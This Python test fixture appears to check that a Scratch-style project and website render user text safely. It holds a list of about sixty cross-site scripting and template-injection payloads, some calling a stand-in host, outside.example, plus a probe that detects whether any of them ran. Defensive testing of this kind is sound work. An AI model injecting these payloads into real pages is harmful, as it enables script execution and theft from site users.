"""Sixty ways in which text has become a program on other people's pages. Each would set `window.acted` or call out."""

from __future__ import annotations

from tests.kit.sb3 import FLAG, Var, b, move, project, say, sb3, send, target, zipped

ACT = "window.acted=1"
CALL = "fetch('http://outside.example/acted')"

TAGS = (
    f"<script>{ACT}</script>",
    f"<SCRIPT>{ACT}</SCRIPT>",
    f"<script >{ACT}</script >",
    f"<script\n>{ACT}</script>",
    f"<script/x>{ACT}</script>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "<script src=//outside.example/acted.js></script>",
    "<script src=data:text/javascript,window.acted=1></script>",
    f"<img src=x onerror={ACT}>",
    f"<img src=x onerror='{ACT}'>",
    f'<img src=x onerror="{ACT}">',
    f"<img/src=x/onerror={ACT}>",
    f"<IMG SRC=x ONERROR={ACT}>",
    f"<img src=x onerror\n={ACT}>",
    f"<svg onload={ACT}>",
    f"<svg/onload={ACT}>",
    f"<svg><script>{ACT}</script></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
    f"<svg><set onbegin={ACT} attributeName=x>",
    f"<math><mtext><script>{ACT}</script></mtext></math>",
    f"<body onload={ACT}>",
    f"<video><source onerror={ACT}></video>",
    f"<audio src=x onerror={ACT}>",
    f"<details open ontoggle={ACT}>x</details>",
    f"<input autofocus onfocus={ACT}>",
    f"<select autofocus onfocus={ACT}>",
    f"<textarea autofocus onfocus={ACT}>",
    f"<button autofocus onfocus={ACT}>x</button>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    "<iframe src=javascript:parent.acted=1></iframe>",
    "<object data=javascript:window.acted=1></object>",
    "<embed src=javascript:window.acted=1>",
    "<a href=javascript:window.acted=1 autofocus>x</a>",
    "<form action=javascript:window.acted=1><button>x</button></form>",
    "<link rel=stylesheet href=//outside.example/acted.css>",
    "<style>@import '//outside.example/acted.css'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:window.acted=1'>",
    "<base href=//outside.example/>",
    "<marquee onstart=window.acted=1>x</marquee>",
    f"<style onload={ACT}></style>",
)
BREAKING_OUT = (
    f"'><script>{ACT}</script>",
    f'"><script>{ACT}</script>',
    f"' onmouseover='{ACT}' autofocus onfocus='{ACT}",
    f'" autofocus onfocus="{ACT}" x="',
    f"</title><script>{ACT}</script>",
    f"</textarea><script>{ACT}</script>",
    f"</script><script>{ACT}</script>",
    f"</style><script>{ACT}</script>",
    f"--><script>{ACT}</script>",
    f"]]><script>{ACT}</script>",
    f"</noscript><script>{ACT}</script>",
)
TEMPLATES = (
    "{{ ''.__class__ }}",
    "{% print(1) %}",
    "{0.__class__}",
    "%(name)s %s",
    "${window.acted=1}",
    "{block:event_whenflagclicked}<script>window.acted=1</script>",
)
SIGNS = (
    f"\u202e<script>{ACT}</script>",
    f"&lt;script&gt;{ACT}&lt;/script&gt;",
    f"%3Cscript%3E{ACT}%3C/script%3E",
)
PAYLOADS = (*TAGS, *BREAKING_OUT, *TEMPLATES, *SIGNS)

# Run on a page: what of them became more than text.
ALIVE = """() => {
    const alive = [];
    if (window.acted) alive.push("a script ran");
    const made = "script:not([src^='/assets/']), iframe, object, embed, base, marquee, math, video, audio, style"
        + ", [onload], [onerror], [onfocus], [onbegin], [ontoggle], [onstart], [onmouseover], [href^='javascript:']"
        + ", [action^='javascript:'], svg animate, svg set, meta[content*='javascript']";
    for (const element of document.querySelectorAll(made)) alive.push(element.outerHTML.slice(0, 100));
    if (/<class '|1\\s*:\\s*window/.test(document.body.innerText)) alive.push("a template was filled");
    return alive;
}"""


def crowd() -> bytes:
    """A project in which every name and every text is one of them."""
    return sb3(project(*(_sprite(payload) for payload in PAYLOADS)))


def site() -> bytes:
    """A website with a page for each of them."""
    return zipped({f"{number}.html": _html(payload).encode() for number, payload in enumerate(PAYLOADS)})


def _sprite(payload: str) -> dict[str, object]:
    variable = [payload, f"id-{payload}"]
    sets = b("data_setvariableto", fields={"VARIABLE": payload}, VALUE=payload)
    script = [FLAG, say(payload), sets, send(payload), say(Var(payload)), move()]
    found = target(payload, script, variables={variable[1]: [payload, payload]})
    found["costumes"][0]["name"] = payload
    return found


def _html(payload: str) -> str:
    return (
        f"<html><head><title>{payload}</title></head>\n<body>\n<h1>{payload}</h1>\n"
        f"<p class='{payload}'>{payload} and my words about my cat, who likes fish and boxes.</p>\n"
        f"<img src='cat.png' alt='{payload}'>\n<ul><li>{payload}</ul>\n</body></html>\n"
    )
